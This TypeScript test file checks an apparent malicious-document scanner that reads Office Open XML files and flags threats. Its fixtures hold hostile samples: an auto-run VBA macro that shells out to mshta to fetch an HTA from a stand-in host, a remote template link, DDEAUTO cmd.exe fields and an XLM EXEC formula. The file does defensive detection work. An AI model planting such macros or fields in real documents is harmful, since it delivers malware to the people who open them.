import { TextReader, Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import { describe, expect, test } from 'vitest';
import type { Content } from '#core/inspect/content.ts';
import { findDde } from '#core/inspect/openxml/dde.ts';
import { textOfPart } from '#core/inspect/openxml/document-text.ts';
import { readRelationships } from '#core/inspect/openxml/relationships.ts';
import { processorTime } from '../../processor-time.ts';
import { aCompoundFile } from './writers/compound-file.ts';
import { damaged, inspectFile } from './writers/inspect-file.ts';
import { vbaStreams } from './writers/vba.ts';

const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const DROPPER = 'Sub Document_Open()\r\n  Shell "mshta http://evil-host.com/a.hta"\r\nEnd Sub\r\n';

describe('a document of Office 2007 and later', () => {
  test('gives its words as they are read, over runs and fields, and not its markup', async () => {
    const content = await inspectDocument({
      'word/document.xml':
        '<w:document><w:body><w:p><w:r><w:t>Pay at http://evil-</w:t></w:r><w:proofErr/><w:r><w:t>host.com/a?b=1&amp;c=2</w:t></w:r></w:p><w:p><w:r><w:t>next</w:t></w:r></w:p></w:body></w:document>',
      'word/header1.xml': '<w:hdr><w:p><w:r><w:t>Header</w:t></w:r></w:p></w:hdr>',
      'word/styles.xml': '<w:styles><w:style><w:t>no words</w:t></w:style></w:styles>',
    });
    expect(content.texts).toEqual(['Pay at http://evil-host.com/a?b=1&c=2\nnext', 'Header']);
    expect(content.members).toEqual([]);
  });

  test('names what it loads from outside and where it links to', async () => {
    const content = await inspectDocument({
      'word/document.xml': '<w:document/>',
      'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r1" Type="${TYPES}/attachedTemplate" Target="http://evil-host.com/t.dotm" TargetMode="External"/></Relationships>`,
      'word/_rels/document.xml.rels': `<Relationships><Relationship Type="${TYPES}/hyperlink" TargetMode="External" Target="https://linked-host.com/?a=1&amp;b=2"/><Relationship Type="${TYPES}/oleObject" TargetMode="External" Target="mhtml:http://ole-host.com/x.html!x-usc:http://ole-host.com/x.html"/><Relationship Type="${TYPES}/styles" Target="styles.xml"/></Relationships>`,
    });
    expect(content.links.map(({ value }) => value)).toEqual([
      'http://evil-host.com/t.dotm',
      'https://linked-host.com/?a=1&b=2',
      'http://ole-host.com/x.html!x-usc:http://ole-host.com/x.html',
    ]);
    expect(content.notices).toMatchObject([
      { code: 'file_suspicious', details: { names: expect.stringContaining('http://evil-host.com/t.dotm') } },
    ]);
  });

  test('with the template on its author’s disk, or a picture of a web page, is like any other', () => {
    const relationship = (type: string, target: string) =>
      readRelationships(`<Relationship Type="${TYPES}/${type}" Target="${target}" TargetMode="External"/>`).warnings;
    expect(relationship('attachedTemplate', 'file:///C:\\Users\\me\\Normal.dotm')).toEqual([]);
    expect(relationship('image', 'https://www.example.com/logo.png')).toMatchObject([{ effect: 'address' }]);
    expect(relationship('attachedTemplate', '\\\\203.0.113.7\\share\\t.dotm')).toMatchObject([{ effect: 'outside' }]);
  });

  test('has the macros told of by its own name, and their project as a member with its hashes', async () => {
    const content = await inspectDocument({
      'word/document.xml': '<w:document/>',
      'word/vbaProject.bin': aCompoundFile(vbaStreams({ ThisDocument: DROPPER })),
    });
    expect(content.texts).toEqual([DROPPER]);
    expect(content.notices).toMatchObject([
      { code: 'file_harmful', details: { file: 'invoice.docm', names: expect.stringContaining('Document_Open') } },
    ]);
    expect(content.members).toMatchObject([{ filename: 'word/vbaProject.bin', texts: [], notices: [] }]);
  });

  test('of Excel gives its cells, formulas and sheets of macros; of PowerPoint its slides', async () => {
    const book = await inspectDocument({
      'xl/sharedStrings.xml': '<sst><si><t>one</t></si><si><r><t>http://</t></r><r><t>evil-host.com</t></r></si></sst>',
      'xl/worksheets/sheet1.xml': '<worksheet><row><c><f>HYPERLINK("http://formula-host.com")</f><v>7</v></c></row></worksheet>',
      'xl/macrosheets/sheet1.xml': '<xm:macrosheet><row><c><f>EXEC("calc")</f></c></row></xm:macrosheet>',
    });
    expect(book.texts).toEqual(['one\nhttp://evil-host.com', 'HYPERLINK("http://formula-host.com")', 'EXEC("calc")']);
    expect(book.warnings).toMatchObject([{ keyword: 'XLM macros' }]);
    const slides = await inspectDocument({ 'ppt/slides/slide1.xml': '<p:sld><a:p><a:r><a:t>See evil-host.com</a:t></a:r></a:p></p:sld>' });
    expect(slides.texts).toEqual(['See evil-host.com']);
  });

  test('that gives orders to another program over DDE is told of', () => {
    const run = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
    expect(findDde(`<w:p>${run('DDE')}${run('AUTO c:\\\\windows\\\\cmd.exe ')}${run('"/k calc"')}</w:p>`)).toMatchObject([
      { effect: 'outside', keyword: 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"' },
    ]);
    expect(findDde('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')).toMatchObject([{ keyword: 'cmd /c calc' }]);
    expect(findDde('<w:p><w:r><w:t>DDEAUTO is a field</w:t></w:r></w:p>')).toEqual([]);
  });
});

describe('a hostile document', () => {
  test('cut off or with wrong bytes anywhere does not make it throw', async () => {
    const whole = await aDocument({
      'word/document.xml': '<w:p><w:t>x</w:t></w:p>'.repeat(50),
      'word/vbaProject.bin': aCompoundFile(vbaStreams({ M: DROPPER })),
    });
    for (const bytes of damaged(whole, 60)) {
      await inspectFile(bytes, 'a.docm');
    }
  });

  test.each([
    ['tags that never end', '<w:t'],
    ['brackets', '<'],
    ['attributes', '<Relationship a="'],
    ['data that never end', '<![CDATA['],
    ['references', '<w:t>&amp'],
    ['fields', '<w:p><w:instrText>DDE '],
    ['colons', '<a:a:'],
  ])('of half a million %s is read in a moment', (_, piece) => {
    const source = piece.repeat(Math.ceil(500_000 / piece.length));
    const started = processorTime();
    textOfPart(source);
    readRelationships(source);
    findDde(source);
    expect(processorTime() - started).toBeLessThan(3000);
  });
});

async function inspectDocument(files: Readonly<Record<string, string | Uint8Array>>): Promise<Content> {
  return inspectFile(await aDocument(files), 'invoice.docm');
}

async function aDocument(files: Readonly<Record<string, string | Uint8Array>>): Promise<Uint8Array> {
  const writer = new ZipWriter(new Uint8ArrayWriter(), { useWebWorkers: false });
  for (const [name, content] of Object.entries({ '[Content_Types].xml': '<Types/>', ...files })) {
    await writer.add(name, typeof content === 'string' ? new TextReader(content) : new Uint8ArrayReader(content));
  }
  return writer.close();
}
